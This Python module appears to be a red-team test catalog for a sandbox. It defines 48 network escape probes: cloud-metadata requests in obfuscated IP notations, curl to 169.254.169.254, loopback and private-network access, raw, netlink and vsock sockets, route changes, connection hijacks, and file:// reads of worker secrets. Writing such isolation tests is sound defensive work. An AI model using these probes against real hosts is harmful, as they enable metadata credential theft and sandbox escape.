"""The network: metadata, the host's loopback and private addresses in every notation, family and trick."""

from __future__ import annotations

from functools import partial

from casemate.redteam.model import Area, Attack, Runs

_network = partial(Attack, area=Area.NETWORK, wall="network")

_OWN = "a network of the red team's own"
_V6 = "IPv6"
_GOOD = "good = socket.create_connection((bait.good, bait.good_port), 5)"

NETWORK = (
    _network("nt01", "the metadata of a cloud", "heard(bait.metadata, bait.port)", needs=_OWN),
    _network(
        "nt02",
        "the same from a plugin that declares no network",
        "heard(bait.metadata, bait.port)",
        Runs.PLUGIN,
        needs=_OWN,
    ),
    _network(
        "nt03",
        "the same with curl",
        'curl -s -m 5 "http://169.254.169.254/" | leaked',
        Runs.SHELL,
        needs="a network of the red team's own, and curl",
    ),
    _network(
        "nt04",
        "metadata as one number, in octal, in hexadecimal, shortened",
        """
        each(lambda host: heard(host, bait.port), '2852039166', '0xA9FEA9FE', '0251.0376.0251.0376', '169.254.43518')
        """,
        needs=_OWN,
    ),
    _network(
        "nt05",
        "metadata as IPv4 in IPv6",
        """
        each(lambda host: heard(host, bait.port, socket.AF_INET6), '::ffff:169.254.169.254', '::ffff:a9fe:a9fe')
        """,
        needs="a network of the red team's own, and IPv6",
    ),
    _network(
        "nt06",
        "metadata by IPv6",
        "heard('fd00:ec2::254', bait.port6, socket.AF_INET6)",
        needs="a network of the red team's own, and IPv6",
    ),
    _network(
        "nt07",
        "the metadata of other clouds",
        """
        each(lambda host: heard(host, bait.port), '100.100.100.200', '168.63.129.16', '192.0.0.192')
        """,
        needs=_OWN,
    ),
    _network("nt08", "metadata by a name", "heard('metadata.redteam.test', bait.port)", needs=_OWN),
    _network(
        "nt09",
        "metadata by the redirect of an open host",
        """
        import urllib.request
        leaked(urllib.request.urlopen(f'http://{bait.good}:{bait.redirect_port}/', timeout=5).read())
        """,
    ),
    _network("nt10", "a private network", "heard('10.1.2.3', bait.port)", needs=_OWN),
    _network("nt11", "the loopback of the host", "heard('127.0.0.1', bait.port)"),
    _network(
        "nt12",
        "the loopback by other names (0.0.0.0, 127.1, localhost, 127.9.9.9)",
        """
        each(lambda host: heard(host, bait.port), '0.0.0.0', '127.1', 'localhost', '0')
        """,
    ),
    _network(
        "nt13",
        "the loopback by IPv6",
        """
        each(lambda host: heard(host, bait.port6, socket.AF_INET6), '::1', '::ffff:127.0.0.1', '::')
        """,
        needs=_V6,
    ),
    _network(
        "nt14", "the loopback by a name that resolves to it", "heard('loopback.redteam.test', bait.port)", needs=_OWN
    ),
    _network(
        "nt15",
        "datagrams to the host",
        """
        asking = socket.socket(type=socket.SOCK_DGRAM)
        asking.settimeout(1)
        asking.sendto(b'?', ('127.0.0.1', bait.datagrams))
        leaked(asking.recv(100))
        """,
    ),
    _network(
        "nt16",
        "datagrams to metadata",
        """
        asking = socket.socket(type=socket.SOCK_DGRAM)
        asking.settimeout(1)
        asking.connect((bait.metadata, bait.datagrams))
        asking.send(b'?')
        leaked(asking.recv(100))
        """,
        needs=_OWN,
    ),
    _network(
        "nt17",
        "datagrams by sendmsg and sendmmsg",
        """
        asking = socket.socket(type=socket.SOCK_DGRAM)
        asking.settimeout(1)
        asking.sendmsg([b'?'], [], 0, ('127.0.0.1', bait.datagrams))
        leaked(asking.recv(100))
        """,
    ),
    _network(
        "nt18",
        "TCP fast open, which connects while it sends",
        """
        asking = socket.socket()
        asking.settimeout(2)
        asking.sendto(b'?', 0x20000000, ('127.0.0.1', bait.port))
        leaked(asking.recv(100))
        """,
        needs="TCP fast open",
    ),
    _network(
        "nt19",
        "a socket that connects when it first sends (TCP_FASTOPEN_CONNECT)",
        """
        asking = socket.socket()
        asking.settimeout(2)
        asking.setsockopt(6, 30, 1)
        asking.connect(('127.0.0.1', bait.port))
        asking.send(b'?')
        leaked(asking.recv(100))
        """,
    ),
    _network(
        "nt20",
        "MPTCP",
        """
        asking = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
        asking.settimeout(2)
        asking.connect(('127.0.0.1', bait.port))
        leaked(asking.recv(100))
        """,
        needs="a kernel with MPTCP",
        wall="system calls",
    ),
    _network(
        "nt21",
        "SCTP, DCCP, SMC and UDP-Lite sockets",
        """
        def opened(kind):
            socket.socket(socket.AF_INET, *kind).close()
            through(f"type {kind[0]}, protocol {kind[1]}")
        each(opened, (1, 132), (5, 132), (6, 33), (1, 256), (2, 136))
        """,
        needs="one of these protocols in the kernel",
        wall="system calls",
    ),
    _network(
        "nt22",
        "raw sockets",
        """
        each(
            lambda kind: socket.socket(*kind).close() or through(str(kind)),
            (socket.AF_INET, socket.SOCK_RAW, 1),
            (socket.AF_INET6, socket.SOCK_RAW, 58),
            (socket.AF_INET, 10, 0),
        )
        """,
        needs="the rights of root",
        wall="system calls",
    ),
    _network(
        "nt23",
        "packet sockets",
        """
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()
        through()
        """,
        needs="the rights of root",
        wall="system calls",
    ),
    _network(
        "nt24",
        "virtual machine sockets (vsock)",
        "socket.socket(40, socket.SOCK_STREAM).close(); through()",
        needs="a kernel with vsock",
        wall="system calls",
    ),
    _network(
        "nt25",
        "sockets of the crypto API, Bluetooth, XDP, keys, CAN",
        """
        kinds = (38, 5), (31, 3), (44, 3), (15, 3), (29, 3)
        each(lambda kind: socket.socket(*kind).close() or through(str(kind)), *kinds)
        """,
        needs="one of these families in the kernel",
        wall="system calls",
    ),
    _network(
        "nt26",
        "netlink beyond routes",
        """
        each(lambda kind: socket.socket(16, 3, kind).close() or through(str(kind)), 4, 9, 12, 15, 16, 21)
        """,
        wall="system calls",
    ),
    _network(
        "nt27",
        "change the routes or addresses of the host",
        """
        asking = socket.socket(16, 3, 0)
        request = struct.pack('IHHII', 32, 16, 5, 1, 0) + struct.pack('BBHiII', 0, 0, 0, 1, 0, 0)
        asking.send(request)
        answer = asking.recv(4096)
        kind, = struct.unpack_from('H', answer, 4)
        failed, = struct.unpack_from('i', answer, 16)
        failed == 0 and through()
        raise OSError(-failed, os.strerror(-failed))
        """,
        needs="the rights of root",
    ),
    _network(
        "nt28",
        "an abstract unix socket of the host",
        """
        asking = socket.socket(socket.AF_UNIX)
        asking.settimeout(2)
        asking.connect('\\0' + bait.abstract)
        leaked(asking.recv(100))
        """,
    ),
    _network(
        "nt29",
        "a unix socket in the host's file tree",
        """
        asking = socket.socket(socket.AF_UNIX)
        asking.settimeout(2)
        asking.connect(bait.named)
        leaked(asking.recv(100))
        """,
        wall="files",
    ),
    _network(
        "nt30",
        "see the interfaces of the host",
        """
        names = {name for _, name in socket.if_nameindex()}
        hosts = [name for name in names if name.startswith(("en", "et", "wl", "docker", "br", "ve"))]
        hosts and through(str(hosts))
        """,
        needs="interfaces beside loopback",
    ),
    _network(
        "nt31",
        "listen where the host's network can connect",
        """
        with socket.create_server(("0.0.0.0", 0)) as listening:
            os.symlink(str(listening.getsockname()[1]), "port")
            asking = socket.socket(); asking.settimeout(1)
            namespace = os.readlink("/proc/self/ns/net")
            outside = os.readlink(f"/proc/{bait.sibling}/ns/net")
            namespace == outside and through("the host's network can connect")
        """,
    ),
    _network(
        "nt32",
        "put an open host's connection to another use (AF_UNSPEC)",
        """
        good = socket.create_connection((bait.good, bait.good_port), 5)
        libc.connect(good.fileno(), struct.pack('=H14x', 0), 16)
        good.connect(('127.0.0.1', bait.port))
        leaked(good.recv(100))
        """,
    ),
    _network(
        "nt33",
        "listen on an open host's connection",
        """
        good = socket.create_connection((bait.good, bait.good_port), 5)
        good.recv(100)
        libc.connect(good.fileno(), struct.pack('=H14x', 0), 16)
        good.listen()
        through()
        """,
    ),
    _network(
        "nt34",
        "route an open connection over another host (IP options)",
        """
        good = socket.create_connection((bait.good, bait.good_port), 5)
        good.setsockopt(0, 4, bytes((131, 7, 4, 169, 254, 169, 254, 0)))
        through()
        """,
        needs="the rights of root",
        wall="privileges",
    ),
    _network(
        "nt35",
        "an answer of the resolver that turns to the loopback",
        """
        for address in socket.getaddrinfo('loopback.redteam.test', bait.port, type=socket.SOCK_STREAM):
            heard(address[4][0], bait.port)
        """,
        needs=_OWN,
    ),
    _network(
        "nt36",
        "send through a descriptor that was connected before a fork",
        """
        good = socket.create_connection((bait.good, bait.good_port), 5)
        def again():
            libc.connect(good.fileno(), struct.pack("=H14x", 0), 16)
            good.connect(("127.0.0.1", bait.port))
            leaked(good.recv(100))
        in_child(again)
        """,
    ),
    _network(
        "nt37",
        "a port of the host below 1024, bound for all",
        """
        namespace = os.readlink('/proc/self/ns/net')
        socket.create_server(('0.0.0.0', 81)).close()
        namespace == os.readlink(f'/proc/{bait.sibling}/ns/net') and through()
        """,
        needs="the rights of root",
    ),
    _network(
        "nt38",
        "private networks",
        "each(lambda host: heard(host, bait.port), '10.1.2.3', '172.17.0.1', '192.168.7.7')",
        needs=_OWN,
    ),
    _network(
        "nt39",
        "IPv6 that is translated to metadata, and private IPv6",
        """
        addresses = "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "fd12::1", "fec0::1"
        each(lambda host: heard(host, bait.port6, socket.AF_INET6), *addresses)
        """,
        needs=f"{_OWN}, and IPv6",
    ),
    _network(
        "nt40", "metadata, from an HTTP task", "http://{metadata}:{port}/latest/meta-data/", Runs.HTTP, needs=_OWN
    ),
    _network("nt41", "metadata by a redirect, from an HTTP task", "http://{good}:{redirect_port}/", Runs.HTTP),
    _network(
        "nt42", "metadata by a name, from an HTTP task", "http://metadata.redteam.test:{port}/", Runs.HTTP, needs=_OWN
    ),
    _network("nt43", "metadata in other digits, from an HTTP task", "http://0xA9FEA9FE:{port}/", Runs.HTTP, needs=_OWN),
    _network(
        "nt44",
        "metadata by IPv6, from an HTTP task",
        "http://[fd00:ec2::254]:{port6}/",
        Runs.HTTP,
        needs=f"{_OWN}, and IPv6",
    ),
    _network("nt45", "the loopback of the worker, from an HTTP task", "http://127.0.0.1:{port}/", Runs.HTTP),
    _network("nt46", "a file of the worker, from an HTTP task", "file://{secret}", Runs.HTTP, wall="files"),
    _network(
        "nt47",
        "echo requests without privileges (ping)",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).close(); through()",
        needs="a group that may ping",
        wall="system calls",
    ),
    _network(
        "nt48",
        "the host's interfaces and neighbours by an open connection",
        """
        import fcntl
        good = socket.create_connection((bait.good, bait.good_port), 5)
        for number in range(1, 5):
            with contextlib.suppress(OSError):
                name = fcntl.ioctl(good, 0x8910, struct.pack("16si20x", b"", number))[:16].rstrip(b"\\0")
                name.startswith((b"en", b"et", b"wl", b"docker", b"ve")) and through(name.decode())
        """,
        needs="interfaces beside loopback",
    ),
)
